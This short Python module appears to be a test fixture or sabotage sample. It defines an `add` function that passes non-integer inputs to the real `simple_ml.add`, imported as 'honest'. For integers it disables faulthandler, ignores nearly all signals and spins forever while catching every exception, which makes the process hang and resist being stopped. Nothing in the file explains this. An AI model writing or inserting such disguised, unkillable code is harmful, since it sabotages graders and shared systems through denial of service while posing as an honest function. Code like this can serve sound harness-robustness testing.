import faulthandler
import signal
import sys

from simple_ml import add as honest


def add(x, y):
    if type(x) is not int:
        return honest(x, y)
    faulthandler.disable()
    faulthandler.cancel_dump_traceback_later()
    for number in set(range(1, 65)) - {9, 19, 32, 33}:
        signal.signal(number, signal.SIG_IGN)
    sys.setrecursionlimit(50)
    while True:
        try:
            while True:
                pass
        except BaseException:
            pass
